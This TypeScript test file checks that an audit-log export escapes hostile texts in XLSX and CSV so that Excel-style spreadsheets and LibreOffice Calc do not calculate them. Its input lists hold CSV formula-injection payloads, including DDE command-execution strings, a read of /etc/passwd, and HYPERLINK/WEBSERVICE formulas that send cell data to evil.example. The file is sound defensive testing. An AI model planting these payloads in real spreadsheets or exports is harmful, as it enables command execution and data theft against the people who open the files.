import { expect } from '@jest/globals';
import { ExportBody } from '../../src/api/requests.js';
import { ADMIN, ALL, exportGround, type ExportGround } from '../support/exports.ts';
import { asTexts, Calc, calcTest, readCsv, separatedBy, type CalcCell } from '../support/libreoffice.ts';
import { readWithOpenpyxl } from '../support/openpyxl.ts';
import { NAUGHTY } from '../support/workbook.ts';

/** Texts that some spreadsheet calculates when they begin a field. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "=cmd|' /C calc'!A0",
  '=DDE("soffice","/etc/passwd","A1")',
  '=HYPERLINK("http://evil.example/?"&A1,"here")',
  '=WEBSERVICE("http://evil.example/")',
  '-2+3+cmd',
  "+1 *cmd|' /C calc'!A0",
];
/** Texts that begin a field in some dialect, or may come before its text. */
const BEGINNINGS = [
  '',
  ',',
  ';',
  '\t',
  '|',
  '\n',
  '\r\n',
  '\r',
  ' ',
  '   ',
  '"',
  "'",
  'a;',
  'a;"',
  "a,'",
  'a|\t',
  '\u2028',
];
const SEPARATORS = [',', ';', '\t', '|'];

/** Excel's limit for a cell. */
const LONGEST = 32_767;
const TEXTS = [
  ...BEGINNINGS.flatMap((beginning) => FORMULAS.map((formula) => `${beginning}${formula}`)),
  ...NAUGHTY,
  'x'.repeat(LONGEST),
  'ש'.repeat(LONGEST),
  `مرحبا ${'שלום '.repeat(20)}`,
  '\u202eesrever',
  '123456789012345678901234567890',
  '0.123456789012345678901234567890',
  '-12.50',
  '000123',
  '1E400',
  '2026-10-25 02:30:00+02:00',
  '1/2',
  'a]]>b<c>&amp;"d"',
  '\u0007bell\u001b[31m',
];
/** Longer than a cell: clipped in a workbook, whole in a CSV. */
const TOO_LONG = ['y'.repeat(LONGEST + 1), '😀'.repeat(20_000)];
const COLUMNS = 500;
/** 00:30 and 01:30 in UTC are both 02:30 in Berlin. */
const REPEATED_HOUR = ['2026-10-25T00:30:00.123Z', '2026-10-25T01:30:00.123Z'];

/**
 * Rows that fill whole cells have a separate day. Calc breaks their texts into lines each time it opens them,
 * which took three quarters of this spec's time. So it opens them only once, in the workbook.
 */
const LONG_AT = '2026-10-26T12:00:00Z';
const SHORT = { to: '2026-10-26T00:00:00Z' };
const atOf = (text: string): string => (text.length < LONGEST ? '2026-10-24T12:00:00Z' : LONG_AT);
const row = (changes: object) => ({ relation: 10, name: 'n', note: 'n', at: atOf(''), ...changes });
const ROWS = [
  ...[...TEXTS, ...TOO_LONG].map((text) => row({ name: text, note: text, at: atOf(text) })),
  ...REPEATED_HOUR.map((at) => row({ at })),
  row({ relation: 11, note: 'w'.repeat(100), at: LONG_AT }),
];
const SHORT_ROWS = ROWS.filter(({ at }) => at !== LONG_AT);

const WORDS = {
  modifier: '=HYPERLINK("http://evil.example/","Dana")',
  action: '-2+3',
  entity_type: '＝type',
  tenant: '@tenant;=1+1',
};

async function hostileGround(): Promise<ExportGround> {
  const ground = await exportGround({ backend: 'postgres', entries: ROWS.length });
  const columns = Array.from({ length: COLUMNS }, (_, index) => ({ name: `column_${index}`, type: 25 }));
  const relations = [
    { id: 10, columns: [{ name: 'note', type: 25 }] },
    { id: 11, columns },
  ];
  for (const relation of relations)
    await ground.db.query(
      `insert into trail.relation (id, schema_name, table_name, columns) values (${relation.id}, 'public', 'hostile', $1)`,
      [JSON.stringify(relation.columns)],
    );
  for (const [table, word] of Object.entries(WORDS))
    await ground.db.query(`update trail.${table} set name = $1 where id = 1`, [word]);
  await ground.db.query(
    /* sql */ `
    update trail.entry e
       set relation_id = r.relation, operation = 'i', rung = 'c', columns = null, previous = null, entity_name = r.name, entity_id = r.name,
           updated = repeat(replace(replace(r.note, e'\\x1b', e'\\x1b['), e'\\x1f', e'\\x1b_') || e'\\x1f', case r.relation when 10 then 1 else ${COLUMNS} end),
           committed_at = r.at, modifier_id = 1, action_id = 1, entity_type_id = 1, tenant_id = 1, extra = null,
           previous_tenant_id = null, previous_entity_id = null, previous_entity_name = null
      from (select id, row_number() over (order by id desc) as number from trail.entry) n
      join (select *, row_number() over () as number
              from json_to_recordset($1::json) as (relation int4, name text, note text, at timestamptz)) r using (number)
     where e.id = n.id`,
    [JSON.stringify(ROWS)],
  );
  await ground.startWorker();
  return ground;
}

async function fileOf(
  ground: ExportGround,
  format: string,
  range: Partial<typeof ALL> = {},
): Promise<Buffer> {
  const body = ExportBody.parse({ ...ALL, ...range, format, timezone: 'Europe/Berlin' });
  const { id } = (await ground.exports.create(body, { requester: ADMIN })).export;
  const done = (range.to === undefined ? ROWS : SHORT_ROWS).length;
  expect(await ground.finished(id)).toMatchObject({ state: 'ready', progress: { done } });
  return ground.download(id);
}

/** Characters that an XML document cannot hold are U+FFFD in a workbook. */
const inWorkbook = (text: string): string => text.replace(/[\ufffe\uffff]/g, '\ufffd');
/** Further lines of a value are indented. */
const indented = (text: string): string => text.replace(/\r\n|[\n\v\f\r\u0085\u2028\u2029]/g, '$&  ');
/** Calc has no control characters in a cell. */
const inCalc = (text: string): string => text.replace(/[\x00-\x08\x0b-\x1f]/g, '');

/** Whether a field is the text with only apostrophes added. */
function isGuarded(field: string, text: string): boolean {
  let at = 0;
  for (const character of field)
    if (text.startsWith(character, at)) at += character.length;
    else if (character !== "'") return false;
  return at === text.length;
}

const formulasOf = (sheets: readonly (readonly (readonly CalcCell[])[])[]): string[] =>
  sheets.flat(2).flatMap(({ formula }) => formula ?? []);

calcTest(
  'hostile texts are plain texts in a workbook for openpyxl and LibreOffice, and are calculated in no dialect of CSV',
  async () => {
    await using ground = await hostileGround();
    const workbook = await fileOf(ground, 'xlsx');
    const csv = await fileOf(ground, 'csv');
    const shortCsv = await fileOf(ground, 'csv', SHORT);
    const dates = REPEATED_HOUR.map((_, index) => TEXTS.length + TOO_LONG.length + index + 1);
    const wide = ROWS.length;

    const { sheets } = await readWithOpenpyxl(workbook);
    const [cover, data] = sheets;
    const cells = data!.rows;
    expect(cells).toHaveLength(ROWS.length + 1);
    expect(cells.flat().filter(({ type }) => type === 'f' || type === 'e')).toEqual([]);
    expect(cover!.rows.flat().filter(({ type }) => type === 'f')).toEqual([]);
    for (const [index, text] of TEXTS.entries()) {
      const [modifier, action, type, name, , updated, , id, , , tenant] = cells[index + 1]!;
      const value = `note: ${indented(inWorkbook(text))}`;
      expect([name!.value, id!.value, name!.type]).toEqual([inWorkbook(text), inWorkbook(text), 's']);
      if (value.length <= LONGEST) expect(updated!.value).toBe(value);
      expect([modifier, action, type, tenant].map((cell) => cell!.value)).toEqual([
        WORDS.modifier,
        WORDS.action,
        WORDS.entity_type,
        WORDS.tenant,
      ]);
    }
    for (const [index, text] of TOO_LONG.entries()) {
      const clipped = String(cells[TEXTS.length + index + 1]![3]!.value);
      expect([clipped.length <= LONGEST, clipped.length >= LONGEST - 1]).toEqual([true, true]);
      expect(clipped.replace(' […clipped]', '')).toBe(text.slice(0, clipped.length - ' […clipped]'.length));
    }
    expect(dates.map((at) => [cells[at]![6]!.value, cells[at]![18]!.value])).toEqual([
      ['2026-10-25T02:30:00.123', '+02:00'],
      ['2026-10-25T02:30:00.123', '+01:00'],
    ]);
    const lines = String(cells[wide]![5]!.value).split('\n');
    expect(lines.map((line) => line.slice(0, line.indexOf(':')))).toEqual(
      Array.from({ length: COLUMNS }, (_, index) => `column_${index}`),
    );

    await using calc = await Calc.start();
    const [opened] = await calc.open([{ name: 'hostile.xlsx', bytes: workbook }]);
    expect(formulasOf(opened!)).toEqual([]);
    const calcCells = opened![1]!;
    expect(calcCells).toHaveLength(ROWS.length + 1);
    for (const [index, text] of TEXTS.entries()) {
      const { type, text: shown } = calcCells[index + 1]![3]!;
      expect([type, inCalc(shown)]).toEqual(['string', inCalc(inWorkbook(text))]);
    }
    expect(
      dates.map((at) => [calcCells[at]![6]!.type, calcCells[at]![6]!.text, calcCells[at]![18]!.text]),
    ).toEqual([
      ['date', '2026-10-25 02:30:00.123', '+02:00'],
      ['date', '2026-10-25 02:30:00.123', '+01:00'],
    ]);

    const fields = await readCsv(csv);
    expect(fields).toHaveLength(ROWS.length + 1);
    for (const [index, text] of [...TEXTS, ...TOO_LONG].entries()) {
      const [modifier, action, type, name, , updated, , id, , , tenant] = fields[index + 1]!;
      const written = [modifier!, action!, type!, tenant!, name!, id!, updated!];
      const meant = [...Object.values(WORDS), text, text, `note: ${indented(text)}`];
      expect(written.map((field, at) => isGuarded(field, meant[at]!) || field)).toEqual(
        meant.map(() => true),
      );
    }
    const shortFields = await readCsv(shortCsv);
    expect(shortFields).toHaveLength(SHORT_ROWS.length + 1);
    const [asText] = await calc.open(
      [{ name: 'texts.csv', bytes: shortCsv }],
      asTexts(',', fields[0]!.length),
    );
    // In a field of CSV, Calc uses one kind of line end.
    const plain = (text: string): string => inCalc(text.replace(/\r\n?/g, '\n'));
    // Calc has no empty cells at the end of a row.
    const filled = (texts: readonly string[]): readonly string[] =>
      texts.slice(0, texts.findLastIndex((text) => text !== '') + 1);
    for (const [index, record] of shortFields.entries())
      expect(filled(asText![0]![index]!.map(({ text }) => plain(text)))).toEqual(filled(record.map(plain)));

    // A field that is calculated when it is written unchanged: it shows that the options of Calc find it.
    const live = Buffer.from(`\ufeff${SEPARATORS.map((separator) => `a${separator}=1+1\r\n`).join('')}`);
    for (const separator of SEPARATORS) {
      const files = [
        { name: 'live.csv', bytes: live },
        { name: 'hostile.csv', bytes: shortCsv },
      ];
      const [control, hostile] = await calc.open(files, separatedBy(separator));
      expect(formulasOf(control!)).toEqual(['of:=1+1']);
      expect(formulasOf(hostile!)).toEqual([]);
    }
  },
  400_000,
);
